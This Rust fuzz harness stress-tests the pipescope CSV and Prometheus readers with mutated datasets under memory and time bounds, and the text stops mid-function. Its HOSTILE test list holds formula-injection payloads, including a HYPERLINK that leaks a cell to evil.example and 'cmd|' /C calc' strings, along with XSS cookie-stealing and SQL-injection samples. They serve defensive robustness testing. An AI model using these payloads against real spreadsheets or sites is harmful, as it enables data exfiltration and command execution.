//! Fuzz harness of issue 13 ("make it stay fixed"): mutated slices of the real datasets in
//! `../shared/data` and synthetic files go through every reader and the analyses the
//! subcommands run on what they read, in process, each case under a time and a memory
//! bound. A panic, a hang, an allocation over the bound, an error message that is empty or
//! echoes unbounded input, or silent row loss (rows read + rows reported skipped differs
//! from the records an independent CSV reader finds) fails the run.
//!
//! - `cargo test --release --test fuzz`: the bounded run of `make test` (a fixed seed, so
//!   a failure is the same on every machine).
//! - `make fuzz`: the long run, `PIPESCOPE_FUZZ_CASES` cases (default 200,000) from
//!   `PIPESCOPE_FUZZ_SEED` (default: the clock; printed).
//! - A failure names the case's seed and mutations and writes its input to
//!   `target/fuzz-failures/`; replay it with `PIPESCOPE_FUZZ_REPLAY=<seed>` or
//!   `PIPESCOPE_FUZZ_FILE=<path>` and `cargo test --release --test fuzz replay -- --ignored`.

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::{Cell, RefCell};
use std::panic::AssertUnwindSafe;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

use pipescope::core::detect::{detect_series, DetectConfig};
use pipescope::core::errors;
use pipescope::core::incident::{IncidentConfig, IncidentEngine};
use pipescope::core::ingest::locale::Reading;
use pipescope::core::ingest::{self, ColumnData, Ingest, IngestOptions, Table};
use pipescope::core::profile;
use pipescope::core::rng::SplitMix64;
use pipescope::core::source;

/// Cases of the bounded run inside `make test`.
const BOUNDED_CASES: u64 = 3000;
/// Seed of the bounded run.
const BOUNDED_SEED: u64 = 13;
/// Cases of the long run when `PIPESCOPE_FUZZ_CASES` is not set.
const LONG_CASES: u64 = 200_000;
/// A case running longer than this is a hang. Cases take milliseconds; the margin is for a
/// loaded 2-core machine compiling beside the run.
const CASE_SECONDS: u64 = 20;
/// Longest error (or skipped-row) message allowed: messages must cap the user text they
/// echo, whatever the input holds.
const MAX_MESSAGE_CHARS: usize = 2000;
/// Failures after which the run stops and reports.
const MAX_FAILURES: usize = 5;
/// The largest cell a mutation writes.
const HUGE_CELL: usize = 1 << 20;

// ---------------------------------------------------------------------------------------
// Memory bound: an allocator that counts each thread's live bytes. A case runs on one
// thread from start to end, so the thread's peak is the case's peak.

struct Counting;

thread_local! {
    static LIVE: Cell<isize> = const { Cell::new(0) };
    static PEAK: Cell<isize> = const { Cell::new(0) };
    /// Live bytes above which an allocation fails (the process then aborts).
    static CAP: Cell<isize> = const { Cell::new(isize::MAX) };
    /// Seed of the case this thread runs, for the message when the cap is hit.
    static CASE: Cell<u64> = const { Cell::new(0) };
    static IN_CASE: Cell<bool> = const { Cell::new(false) };
    static LAST_PANIC: RefCell<Option<String>> = const { RefCell::new(None) };
}

/// Counts `delta` bytes against this thread; false when that passes its cap.
fn account(delta: isize) -> bool {
    LIVE.try_with(|live| {
        let now = live.get() + delta;
        let cap = CAP.try_with(Cell::get).unwrap_or(isize::MAX);
        if delta > 0 && now > cap {
            cap_exceeded(delta);
            return false;
        }
        live.set(now);
        let _ = PEAK.try_with(|p| p.set(p.get().max(now)));
        true
    })
    .unwrap_or(true)
}

/// Says which case went over its memory cap, without allocating (we are inside the
/// allocator): the allocation then fails and the process aborts.
fn cap_exceeded(bytes: isize) {
    let seed = CASE.try_with(Cell::get).unwrap_or(0);
    let mut buf = [0u8; 160];
    let mut n = 0;
    let mut put = |s: &[u8]| {
        for &b in s {
            if n < buf.len() {
                buf[n] = b;
                n += 1;
            }
        }
    };
    put(b"\nfuzz: case seed 0x");
    for i in (0..16).rev() {
        put(&[b"0123456789abcdef"[((seed >> (i * 4)) & 0xF) as usize]]);
    }
    put(b" went over its memory bound asking for ");
    let mut digits = [0u8; 20];
    let (mut v, mut k) = (bytes as u64, 20);
    loop {
        k -= 1;
        digits[k] = b'0' + (v % 10) as u8;
        v /= 10;
        if v == 0 {
            break;
        }
    }
    put(&digits[k..]);
    put(b" bytes; replay it with PIPESCOPE_FUZZ_REPLAY\n");
    // SAFETY: writing a stack buffer to stderr; nothing here allocates.
    unsafe {
        libc::write(2, buf.as_ptr().cast(), n);
    }
}

// SAFETY: every call forwards to the system allocator; the counting only reads and writes
// const-initialised thread-locals, which never allocate.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        if !account(layout.size() as isize) {
            return std::ptr::null_mut();
        }
        System.alloc(layout)
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        if !account(layout.size() as isize) {
            return std::ptr::null_mut();
        }
        System.alloc_zeroed(layout)
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        account(-(layout.size() as isize));
        System.dealloc(ptr, layout)
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        let delta = new_size as isize - layout.size() as isize;
        if !account(delta) {
            return std::ptr::null_mut();
        }
        let p = System.realloc(ptr, layout, new_size);
        if p.is_null() {
            account(-delta);
        }
        p
    }
}

#[global_allocator]
static ALLOCATOR: Counting = Counting;

/// Peak bytes a case may hold live: the readers keep the input, a typed table and a few
/// buffers, a small multiple of the input; anything far beyond is a blow-up.
fn memory_budget(input: usize) -> isize {
    (64 << 20) + 24 * input as isize
}

/// Over this a case's allocation fails outright (the process aborts, naming the seed),
/// before it can take the machine down.
fn memory_cap(input: usize) -> isize {
    (1 << 30) + 64 * input as isize
}

// ---------------------------------------------------------------------------------------
// Inputs.

/// The real datasets, split into lines (terminators kept).
struct Datasets {
    bank: Vec<Vec<u8>>,
    stream_a: Vec<Vec<u8>>,
    stream_b: Vec<Vec<u8>>,
}

fn lines_of(bytes: &[u8]) -> Vec<Vec<u8>> {
    bytes
        .split_inclusive(|&b| b == b'\n')
        .map(<[u8]>::to_vec)
        .collect()
}

fn datasets() -> &'static Datasets {
    static DATA: OnceLock<Datasets> = OnceLock::new();
    DATA.get_or_init(|| {
        let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/data");
        let read = |name: &str| {
            let path = dir.join(name);
            let bytes = std::fs::read(&path).unwrap_or_else(|e| {
                panic!(
                    "{}: {e}; the fuzz harness mutates the real datasets in ../shared/data",
                    path.display()
                )
            });
            lines_of(&bytes)
        };
        Datasets {
            bank: read("BankChurners.csv"),
            stream_a: read("ErrorStreamSetA.csv"),
            stream_b: read("ErrorStreamSetB.csv"),
        }
    })
}

/// A header (if any) and `n` consecutive lines from a random place.
fn slice(rng: &mut SplitMix64, lines: &[Vec<u8>], header: Option<&[u8]>, n: usize) -> Vec<u8> {
    let body = if header.is_some() { &lines[1..] } else { lines };
    let n = n.min(body.len());
    let start = rng.below((body.len() - n + 1) as u64) as usize;
    let mut out = header.map(<[u8]>::to_vec).unwrap_or_default();
    for l in &body[start..start + n] {
        out.extend_from_slice(l);
    }
    out
}

fn pick<'a, T>(rng: &mut SplitMix64, items: &'a [T]) -> &'a T {
    &items[rng.below(items.len() as u64) as usize]
}

fn chance(rng: &mut SplitMix64, p: f64) -> bool {
    rng.next_f64() < p
}

/// Rows in a base file: mostly small, now and then a few hundred.
fn row_count(rng: &mut SplitMix64) -> usize {
    match rng.below(10) {
        0 => 0,
        1..=6 => 1 + rng.below(40) as usize,
        _ => 1 + rng.below(400) as usize,
    }
}

const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "<script>alert(document.cookie)</script>",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "'; DROP TABLE rows; --",
    "\u{202E}gnp.exe\u{200B}\u{FEFF}",
];

const WORDS: [&str; 12] = [
    "alpha",
    "NA",
    "",
    "null",
    "3.5",
    "-1e400",
    "inf",
    "true",
    "2026-11-28T14:05:00Z",
    "0:00:07",
    "5.0007.510.011",
    "x y",
];

/// A synthetic file, named for the failure report.
fn synthetic(rng: &mut SplitMix64) -> (String, Vec<u8>) {
    let rows = row_count(rng);
    let mut out = String::new();
    let name = match rng.below(11) {
        9 => {
            // A Prometheus HTTP API response, as `detect`, `incidents` and the Monitor read it.
            return (
                "synthetic prometheus".to_string(),
                prometheus_json(rng, rows).into_bytes(),
            );
        }
        8 => {
            // A locale's numbers and dates: `;` between fields, decimal commas with `.`
            // grouping thousands, and day-first or month-first dates (see `locale_oracle`).
            let month_first = chance(rng, 0.5);
            out.push_str("date;amount;count\n");
            for i in 0..rows {
                let (y, m, d) = locale_date(i);
                let date = if month_first {
                    format!("{m:02}/{d:02}/{y}")
                } else {
                    format!("{d:02}.{m:02}.{y}")
                };
                out.push_str(&format!("{date};{};{i}\n", decimal_comma(locale_amount(i))));
            }
            if month_first {
                "locale month-first"
            } else {
                "locale day-first"
            }
        }
        0 => {
            // A metric table: what detect, incidents and the Monitor replay read.
            let t0 = 1_700_000_000i64 + rng.below(1_000_000) as i64;
            let style = rng.below(4);
            out.push_str(*pick(rng, &["timestamp", "time", "ts", "when"]));
            out.push_str(",cpu,latency_ms,queue\n");
            for i in 0..rows {
                let step = if chance(rng, 0.05) { 0 } else { 60 };
                let t = t0 + i as i64 * step - if chance(rng, 0.03) { 600 } else { 0 };
                let time = match style {
                    0 => t.to_string(),
                    1 => (t * 1000).to_string(),
                    2 => format!("{}:{:02}:{:02}", i / 3600, (i / 60) % 60, i % 60),
                    _ => format!(
                        "2026-11-28T{:02}:{:02}:{:02}Z",
                        (i / 3600) % 24,
                        (i / 60) % 60,
                        i % 60
                    ),
                };
                let spike = if chance(rng, 0.02) { 50.0 } else { 0.0 };
                let cpu = 40.0 + 5.0 * rng.normal() + spike;
                let cell = |rng: &mut SplitMix64, v: f64| {
                    if chance(rng, 0.02) {
                        pick(rng, &WORDS).to_string()
                    } else {
                        format!("{v:.3}")
                    }
                };
                let (latency, queue) = (120.0 + 10.0 * rng.normal(), rng.below(20) as f64);
                let (a, b, c) = (cell(rng, cpu), cell(rng, latency), cell(rng, queue));
                out.push_str(&format!("{time},{a},{b},{c}\n"));
            }
            "metrics"
        }
        1 => {
            // An error stream with a header, two or more builds.
            out.push_str(*pick(
                rng,
                &["time,build,code\n", "timestamp,version,error\n", ""],
            ));
            let builds = ["5.0007.510.011", "5.0007.610.011", "5.0008.100.001"];
            let nbuilds = if chance(rng, 0.1) { 3 } else { 2 };
            for i in 0..rows {
                let s = i as u64 * 3 + rng.below(3);
                out.push_str(&format!(
                    "{}:{:02}:{:02},{},{}\n",
                    s / 3600,
                    (s / 60) % 60,
                    s % 60,
                    builds[rng.below(nbuilds) as usize],
                    rng.below(12)
                ));
            }
            "errors"
        }
        2 => {
            // Quoted cells: delimiters, escaped quotes and line breaks inside.
            out.push_str("id,comment,amount\n");
            for i in 0..rows {
                let comment = match rng.below(4) {
                    0 => "\"plain, with a comma\"".to_string(),
                    1 => "\"she said \"\"hi\"\"\"".to_string(),
                    2 => "\"two\nlines\"".to_string(),
                    _ => "unquoted".to_string(),
                };
                out.push_str(&format!("{i},{comment},{}\n", rng.below(1000)));
            }
            "quoted"
        }
        3 => {
            out.push_str("value\n");
            for _ in 0..rows {
                out.push_str(&format!("{}\n", pick(rng, &WORDS)));
            }
            "one column"
        }
        4 => {
            // Wide: thousands of columns.
            let cols = 100 + rng.below(5000) as usize;
            let header: Vec<String> = (0..cols).map(|c| format!("c{c}")).collect();
            out.push_str(&header.join(","));
            out.push('\n');
            for _ in 0..rows.min(20) {
                let row: Vec<String> = (0..cols).map(|_| rng.below(100).to_string()).collect();
                out.push_str(&row.join(","));
                out.push('\n');
            }
            "wide"
        }
        5 => {
            let blank = [
                "", " ", "\n", "\n\n\n", " \t \r\n", "\r", "\r\n\r\n", ",", ",,\n,,\n", "\"\"",
                "\"",
            ];
            out.push_str(*pick(rng, &blank));
            "blank"
        }
        6 => {
            // Hostile text in names and cells.
            out.push_str(&format!(
                "{},{},n\n",
                pick(rng, &HOSTILE),
                pick(rng, &HOSTILE)
            ));
            for i in 0..rows {
                let a = csv_quote(*pick(rng, &HOSTILE));
                let b = csv_quote(*pick(rng, &WORDS));
                out.push_str(&format!("{a},{b},{i}\n"));
            }
            "hostile"
        }
        7 => {
            // Mixed words in a few columns, ragged now and then.
            let cols = 1 + rng.below(6) as usize;
            for _ in 0..rows + 1 {
                let n = if chance(rng, 0.1) {
                    1 + rng.below(8) as usize
                } else {
                    cols
                };
                let row: Vec<&str> = (0..n).map(|_| *pick(rng, &WORDS)).collect();
                out.push_str(&row.join(*pick(rng, &[",", ",", ",", ";", "\t", "|"])));
                out.push_str(*pick(rng, &["\n", "\n", "\r\n", "\r"]));
            }
            "words"
        }
        _ => {
            // Random printable bytes with many structural ones.
            let n = rng.below(2000) as usize;
            let alphabet = b"ab1.9-,;\t|\"\n\r =";
            let bytes: Vec<u8> = (0..n).map(|_| *pick(rng, alphabet)).collect();
            return ("random text".to_string(), bytes);
        }
    };
    (format!("synthetic {name}, {rows} rows"), out.into_bytes())
}

/// A Prometheus response: a matrix or vector of a few series with the oddities servers and
/// proxies send (NaN and ±Inf values, repeated and unsorted times, warnings, hostile and
/// long labels), or an error answer.
fn prometheus_json(rng: &mut SplitMix64, rows: usize) -> String {
    let text = |s: &str| serde_json::Value::String(s.to_string()).to_string();
    if chance(rng, 0.05) {
        return format!(
            r#"{{"status":"error","errorType":"bad_data","error":{}}}"#,
            text(*pick(rng, &HOSTILE))
        );
    }
    let matrix = chance(rng, 0.8);
    let nseries = rng.below(4) as usize;
    let t0 = 1_700_000_000.0 + rng.below(1_000_000) as f64;
    let mut series = Vec::new();
    for k in 0..nseries {
        let label = if chance(rng, 0.1) {
            (*pick(rng, &HOSTILE)).to_string()
        } else if chance(rng, 0.02) {
            "l".repeat(20_000)
        } else {
            format!("job{k}")
        };
        let value = |rng: &mut SplitMix64, i: usize| -> String {
            match rng.below(50) {
                0 => text("NaN"),
                1 => text("+Inf"),
                2 => text("-Inf"),
                3 => text(*pick(rng, &WORDS)),
                4 => "1.5".to_string(),
                _ => text(&format!(
                    "{:.3}",
                    50.0 + 10.0 * rng.normal() + (i % 7) as f64
                )),
            }
        };
        let time = |rng: &mut SplitMix64, i: usize| -> String {
            let jitter = match rng.below(40) {
                0 => -45.0,
                1 => 0.0 - 15.0,
                _ => 0.0,
            };
            format!("{}", t0 + 15.0 * i as f64 + jitter)
        };
        let body = if matrix {
            let points: Vec<String> = (0..rows)
                .map(|i| format!("[{},{}]", time(rng, i), value(rng, i)))
                .collect();
            format!(r#""values":[{}]"#, points.join(","))
        } else {
            format!(r#""value":[{},{}]"#, time(rng, 0), value(rng, 0))
        };
        series.push(format!(
            r#"{{"metric":{{"__name__":"up","instance":{}}},{body}}}"#,
            text(&label)
        ));
    }
    let warnings = if chance(rng, 0.2) {
        format!(r#","warnings":[{}]"#, text(*pick(rng, &HOSTILE)))
    } else {
        String::new()
    };
    format!(
        r#"{{"status":"success"{warnings},"data":{{"resultType":"{}","result":[{}]}}}}"#,
        if matrix { "matrix" } else { "vector" },
        series.join(",")
    )
}

/// Row `i`'s date in the locale synthetic file: one day a row from 1 January 2024.
fn locale_date(i: usize) -> (i64, u32, u32) {
    let mut days = i as u32;
    let (mut y, mut m) = (2024i64, 1u32);
    loop {
        let len = pipescope::core::time::calendar::days_in_month(y, m);
        if days < len {
            return (y, m, days + 1);
        }
        days -= len;
        (y, m) = if m == 12 { (y + 1, 1) } else { (y, m + 1) };
    }
}

/// Row `i`'s amount in the locale synthetic file (cents, so every value has a decimal
/// comma that no thousands reading could take).
fn locale_amount(i: usize) -> f64 {
    i as f64 * 1234.56 - 5000.0 * (i % 3) as f64
}

/// Writes `v` (two decimals) as `-1.234.567,89`: the test's own writer, independent of
/// the reader under test.
fn decimal_comma(v: f64) -> String {
    let cents = (v * 100.0).round() as i64;
    let (sign, cents) = if cents < 0 {
        ("-", -cents)
    } else {
        ("", cents)
    };
    let int = (cents / 100).to_string();
    let mut grouped = String::new();
    for (k, ch) in int.chars().enumerate() {
        if k > 0 && (int.len() - k) % 3 == 0 {
            grouped.push('.');
        }
        grouped.push(ch);
    }
    format!("{sign}{grouped},{:02}", cents % 100)
}

fn csv_quote(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

/// The base file of a case.
fn base(rng: &mut SplitMix64) -> (String, Vec<u8>) {
    let data = datasets();
    match rng.below(10) {
        0..=2 => {
            let n = row_count(rng);
            (
                format!("BankChurners header + {n} rows"),
                slice(rng, &data.bank, Some(&data.bank[0]), n),
            )
        }
        3..=5 => {
            let (name, lines) = if chance(rng, 0.5) {
                ("ErrorStreamSetA", &data.stream_a)
            } else {
                ("ErrorStreamSetB", &data.stream_b)
            };
            let n = row_count(rng);
            let header = chance(rng, 0.2).then_some(&b"time,build,code\r\n"[..]);
            (
                format!(
                    "{name} {n} rows{}",
                    if header.is_some() { " + header" } else { "" }
                ),
                slice(rng, lines, header, n),
            )
        }
        _ => synthetic(rng),
    }
}

/// A random position in `b`, or at a line or field start when `aligned`.
fn position(rng: &mut SplitMix64, b: &[u8], aligned: bool) -> usize {
    let at = rng.below(b.len() as u64 + 1) as usize;
    if !aligned {
        return at;
    }
    b[..at]
        .iter()
        .rposition(|&c| matches!(c, b'\n' | b',' | b';' | b'\t' | b'|'))
        .map_or(0, |i| i + 1)
}

/// Byte range of a random line of `b`.
fn a_line(rng: &mut SplitMix64, b: &[u8]) -> (usize, usize) {
    let start = position(rng, b, false);
    let start = b[..start]
        .iter()
        .rposition(|&c| c == b'\n')
        .map_or(0, |i| i + 1);
    let end = b[start..]
        .iter()
        .position(|&c| c == b'\n')
        .map_or(b.len(), |i| start + i + 1);
    (start, end)
}

fn utf16(b: &[u8], big_endian: bool) -> Vec<u8> {
    let text = String::from_utf8_lossy(b);
    let mut out = if big_endian {
        vec![0xFE, 0xFF]
    } else {
        vec![0xFF, 0xFE]
    };
    for u in text.encode_utf16() {
        out.extend_from_slice(&if big_endian {
            u.to_be_bytes()
        } else {
            u.to_le_bytes()
        });
    }
    out
}

/// Applies one random mutation to `b`; returns its name.
fn mutate(rng: &mut SplitMix64, b: &mut Vec<u8>, allow_huge: bool) -> String {
    let kind = rng.below(24);
    match kind {
        0 | 1 => {
            let n = 1 + rng.below(8);
            for _ in 0..n {
                if !b.is_empty() {
                    let i = rng.below(b.len() as u64) as usize;
                    b[i] ^= 1 << rng.below(8);
                }
            }
            format!("flip {n} bits")
        }
        2 => {
            let special = [
                b'"', b',', b'\n', b'\r', b';', b'\t', b'|', 0, 0xFF, 0xC3, b' ',
            ];
            let c = *pick(rng, &special);
            if !b.is_empty() {
                let i = rng.below(b.len() as u64) as usize;
                b[i] = c;
            }
            format!("set a byte to 0x{c:02X}")
        }
        3 | 4 => {
            let at = position(rng, b, false);
            b.truncate(at);
            format!("truncate at {at}")
        }
        5 | 6 => {
            let aligned = chance(rng, 0.5);
            let at = position(rng, b, aligned);
            let n = 1 + rng.below(2) as usize;
            b.splice(at..at, std::iter::repeat_n(b'"', n));
            format!("insert {n} quote(s) at {at}")
        }
        7 => {
            let all = chance(rng, 0.3);
            if all {
                b.retain(|&c| c != b'"');
            } else if let Some(i) = (0..b.len())
                .filter(|&i| b[i] == b'"')
                .nth(rng.below(8) as usize)
            {
                b.remove(i);
            }
            format!("remove {} quote(s)", if all { "all" } else { "one" })
        }
        8 => {
            let d = *pick(rng, b",;\t|");
            let at = position(rng, b, false);
            b.insert(at, d);
            format!("insert delimiter 0x{d:02X} at {at}")
        }
        9 => {
            let hits: Vec<usize> = (0..b.len()).filter(|&i| b[i] == b',').collect();
            if hits.is_empty() {
                return "remove a delimiter (none)".into();
            }
            let i = *pick(rng, &hits);
            b.remove(i);
            format!("remove the delimiter at {i}")
        }
        10 => {
            let d = *pick(rng, b";\t|");
            for c in b.iter_mut() {
                if *c == b',' {
                    *c = d;
                }
            }
            format!("swap , for 0x{d:02X}")
        }
        11 => {
            let (name, ending): (&str, &[u8]) =
                *pick(rng, &[("CRLF", &b"\r\n"[..]), ("CR", b"\r"), ("LF", b"\n")]);
            let text: Vec<u8> = std::mem::take(b);
            let mut i = 0;
            while i < text.len() {
                if text[i] == b'\r' && text.get(i + 1) == Some(&b'\n') {
                    i += 1;
                    continue;
                }
                if matches!(text[i], b'\r' | b'\n') {
                    b.extend_from_slice(ending);
                } else {
                    b.push(text[i]);
                }
                i += 1;
            }
            format!("line endings to {name}")
        }
        12 => {
            let size = if allow_huge && chance(rng, 0.3) {
                HUGE_CELL
            } else {
                1 + rng.below(70_000) as usize
            };
            let fill = *pick(rng, &[b'x', b'7', b'"', b' ']);
            let quoted = chance(rng, 0.5);
            let at = position(rng, b, true);
            let mut cell = Vec::with_capacity(size + 2);
            if quoted {
                cell.push(b'"');
            }
            cell.extend(std::iter::repeat_n(fill, size));
            if quoted && fill == b'"' {
                // An even run of quotes inside quotes is a run of escaped quotes.
                cell.truncate(1 + size / 2 * 2);
            }
            if quoted {
                cell.push(b'"');
            }
            b.splice(at..at, cell);
            format!(
                "huge {}field of {size} '{}' at {at}",
                if quoted { "quoted " } else { "" },
                fill as char
            )
        }
        13 => {
            let n = 1000 + rng.below(20_000) as usize;
            let d = *pick(rng, b",;\t|");
            let (start, _) = a_line(rng, b);
            let mut row: Vec<u8> = Vec::with_capacity(2 * n);
            for i in 0..n {
                if i > 0 {
                    row.push(d);
                }
                row.push(b'0' + (i % 10) as u8);
            }
            row.push(b'\n');
            b.splice(start..start, row);
            format!("insert a row of {n} fields (0x{d:02X}) at {start}")
        }
        14 => {
            let blank = *pick(
                rng,
                &[&b"\n"[..], b"\r\n", b"   \n", b"\t\n", b"\r", b"\n\n\n"],
            );
            let (start, _) = a_line(rng, b);
            b.splice(start..start, blank.iter().copied());
            format!("insert a blank line at {start}")
        }
        15 => {
            let (name, bom): (&str, &[u8]) = *pick(
                rng,
                &[
                    ("UTF-8 BOM", &b"\xEF\xBB\xBF"[..]),
                    ("two UTF-8 BOMs", b"\xEF\xBB\xBF\xEF\xBB\xBF"),
                    ("UTF-16 LE BOM", b"\xFF\xFE"),
                    ("UTF-16 BE BOM", b"\xFE\xFF"),
                ],
            );
            b.splice(0..0, bom.iter().copied());
            format!("prefix a {name}")
        }
        16 => {
            let be = chance(rng, 0.5);
            *b = utf16(b, be);
            format!("encode as UTF-16 {}", if be { "BE" } else { "LE" })
        }
        17 => {
            let bad = *pick(
                rng,
                &[
                    &b"\xFF"[..],
                    b"\xC3",
                    b"\xC0\xAF",
                    b"\xED\xA0\x80",
                    b"\xF4\x90\x80\x80",
                    b"\xE2\x82",
                ],
            );
            let at = position(rng, b, false);
            b.splice(at..at, bad.iter().copied());
            format!("insert invalid UTF-8 {bad:02X?} at {at}")
        }
        18 => {
            let n = 1 + rng.below(3) as usize;
            let at = position(rng, b, false);
            b.splice(at..at, std::iter::repeat_n(0u8, n));
            format!("insert {n} NUL(s) at {at}")
        }
        19 => {
            let text = *pick(rng, &HOSTILE);
            let cell = if chance(rng, 0.5) {
                csv_quote(text)
            } else {
                text.to_string()
            };
            let at = position(rng, b, true);
            b.splice(at..at, cell.bytes());
            format!("insert hostile text {text:?} at {at}")
        }
        20 => {
            let (s, e) = a_line(rng, b);
            let line = b[s..e].to_vec();
            let n = 1 + rng.below(3) as usize;
            for _ in 0..n {
                b.splice(e..e, line.iter().copied());
            }
            format!("repeat the line at {s} {n} time(s)")
        }
        21 => {
            let (s, e) = a_line(rng, b);
            b.drain(s..e);
            format!("delete the line at {s}")
        }
        22 => {
            let s = position(rng, b, false);
            let e = (s + rng.below(200) as usize).min(b.len());
            let piece = b[s..e].to_vec();
            let at = position(rng, b, false);
            b.splice(at..at, piece);
            format!("copy bytes {s}..{e} to {at}")
        }
        _ => {
            if b.ends_with(b"\n") {
                while b.last().is_some_and(|&c| c == b'\n' || c == b'\r') {
                    b.pop();
                }
                "drop the final line end".into()
            } else {
                b.push(b'\n');
                "add a final line end".into()
            }
        }
    }
}

/// One fuzz case: its seed makes the same input on every machine.
struct Case {
    seed: u64,
    what: String,
    bytes: Vec<u8>,
    /// Reading options tried with ingest beside the default.
    options: IngestOptions,
    /// The options, in words, for the report.
    options_what: String,
    /// Chunk sizes for the push reader.
    chunk_seed: u64,
    /// Whether the input was read from a file (replayed by path, not by seed).
    from_file: bool,
}

fn make_case(seed: u64) -> Case {
    let mut rng = SplitMix64::new(seed);
    let (mut what, mut bytes) = base(&mut rng);
    let mutations = match rng.below(10) {
        0 => 0,
        1..=5 => 1,
        6..=8 => 2,
        _ => 3 + rng.below(3),
    };
    // One huge cell a case at most keeps a case's time and memory small.
    let mut allow_huge = chance(&mut rng, 0.05);
    for _ in 0..mutations {
        let m = mutate(&mut rng, &mut bytes, allow_huge);
        allow_huge &= !m.starts_with("huge");
        what.push_str("; ");
        what.push_str(&m);
    }
    let (options, options_what) = match rng.below(10) {
        0 => {
            let d = *pick(&mut rng, b",;\t|");
            (
                IngestOptions::builder().delimiter(Some(d)).build().unwrap(),
                format!("delimiter 0x{d:02X}"),
            )
        }
        1 => {
            let h = chance(&mut rng, 0.5);
            (
                IngestOptions::builder()
                    .has_header(Some(h))
                    .build()
                    .unwrap(),
                format!("has_header {h}"),
            )
        }
        2 => (
            IngestOptions::builder()
                .literal_quotes_from(Some(1))
                .build()
                .unwrap(),
            "literal quotes from line 1".into(),
        ),
        _ => (IngestOptions::default(), "default options".into()),
    };
    Case {
        seed,
        what,
        bytes,
        options,
        options_what,
        chunk_seed: rng.next_u64(),
        from_file: false,
    }
}

fn case_seed(base: u64, i: u64) -> u64 {
    SplitMix64::new(base ^ i.wrapping_mul(0x9E37_79B9_7F4A_7C15)).next_u64()
}

// ---------------------------------------------------------------------------------------
// Checks.

/// Records an independent reader (the csv crate) finds: the count every reader must
/// account for. Blank lines are no records there, as in ingest and the Errors reader; a
/// leading UTF-8 BOM is stripped by both; UTF-16 with a byte order mark is text to every
/// reader, so it is counted decoded (std's decoder: an independent path from ingest's
/// streaming one).
fn csv_records(bytes: &[u8], delimiter: u8, quoting: bool) -> u64 {
    let decoded;
    let bytes = match bytes.get(..2) {
        Some([0xFF, 0xFE]) | Some([0xFE, 0xFF]) => {
            let units: Vec<u16> = bytes[2..]
                .chunks_exact(2)
                .map(|p| {
                    if bytes[0] == 0xFE {
                        u16::from_be_bytes([p[0], p[1]])
                    } else {
                        u16::from_le_bytes([p[0], p[1]])
                    }
                })
                .collect();
            decoded = String::from_utf16_lossy(&units).into_bytes();
            &decoded[..]
        }
        _ => bytes,
    };
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .quoting(quoting)
        .from_reader(bytes);
    let mut record = csv::ByteRecord::new();
    let mut n = 0;
    // Reading bytes from memory cannot fail: no UTF-8 check, flexible field counts.
    while rdr.read_byte_record(&mut record).expect("csv over bytes") {
        n += 1;
    }
    n
}

fn check_message(what: &str, message: &str, failures: &mut Vec<String>) {
    let chars = message.chars().count();
    if message.trim().is_empty() {
        failures.push(format!("{what}: empty message"));
    } else if chars > MAX_MESSAGE_CHARS {
        failures.push(format!(
            "{what}: message of {chars} characters (over {MAX_MESSAGE_CHARS}): {}...",
            message.chars().take(300).collect::<String>()
        ));
    }
}

/// Tables equal cell for cell (NaN equal to NaN, which `PartialEq` does not give).
fn same_table(a: &Table, b: &Table) -> Result<(), String> {
    if (
        a.rows,
        a.dialect,
        &a.skipped,
        a.bytes,
        a.columns.len(),
        &a.line_starts,
    ) != (
        b.rows,
        b.dialect,
        &b.skipped,
        b.bytes,
        b.columns.len(),
        &b.line_starts,
    ) {
        return Err(format!(
            "rows {} vs {}, dialect {:?} vs {:?}, skipped {:?} vs {:?}, bytes {} vs {}, columns {} vs {}",
            a.rows, b.rows, a.dialect, b.dialect, a.skipped, b.skipped, a.bytes, b.bytes,
            a.columns.len(), b.columns.len()
        ));
    }
    let bits = |v: &[f64]| v.iter().map(|x| x.to_bits()).collect::<Vec<_>>();
    for (x, y) in a.columns.iter().zip(&b.columns) {
        let data = match (&x.data, &y.data) {
            (ColumnData::Numeric(p), ColumnData::Numeric(q))
            | (ColumnData::Datetime(p), ColumnData::Datetime(q)) => bits(p) == bits(q),
            (ColumnData::Boolean(p), ColumnData::Boolean(q)) => p == q,
            (ColumnData::Labels(p), ColumnData::Labels(q)) => p == q,
            _ => false,
        };
        if !data
            || (
                &x.name,
                x.kind,
                x.missing,
                x.invalid,
                &x.first_invalid,
                x.reading,
                x.other_reading,
            ) != (
                &y.name,
                y.kind,
                y.missing,
                y.invalid,
                &y.first_invalid,
                y.reading,
                y.other_reading,
            )
        {
            return Err(format!(
                "column '{}' differs",
                x.name.chars().take(80).collect::<String>()
            ));
        }
    }
    Ok(())
}

/// An unmutated locale file must read as written: `;` between fields, the amounts by
/// their decimal comma, the dates by their order (offering the other order while no day
/// past the 12th shows which it is), every value equal to the one the generator wrote.
fn locale_oracle(table: &Table, month_first: bool, failures: &mut Vec<String>) {
    if table.rows == 0 {
        return;
    }
    let mut problems = Vec::new();
    if table.dialect.delimiter != b';' || !table.dialect.has_header {
        problems.push(format!("dialect {:?}", table.dialect));
    }
    let column = |name: &str| table.columns.iter().find(|c| c.name == name);
    match column("amount") {
        Some(c) => {
            let expected: Vec<f64> = (0..table.rows).map(locale_amount).collect();
            let same = matches!(&c.data, ColumnData::Numeric(v)
                if v.iter().zip(&expected).all(|(a, b)| (a - b).abs() <= 1e-6 * b.abs().max(1.0)));
            if !same || c.reading != Reading::DecimalComma || c.other_reading.is_some() {
                problems.push(format!(
                    "amount: {:?} reading {:?} (other {:?}), invalid {}",
                    c.kind, c.reading, c.other_reading, c.invalid
                ));
            }
        }
